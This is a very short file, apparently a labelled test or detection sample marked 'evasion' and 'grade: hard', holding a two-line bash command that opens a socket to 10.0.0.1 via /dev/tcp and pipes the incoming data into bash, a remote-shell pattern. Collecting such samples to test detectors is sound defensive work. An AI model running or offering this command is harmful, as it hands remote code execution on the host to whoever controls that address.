# evasion: exec opens a socket on a file descriptor
# grade: hard; does: shell
exec 3<>/dev/tcp/10.0.0.1/80
cat <&3 | bash
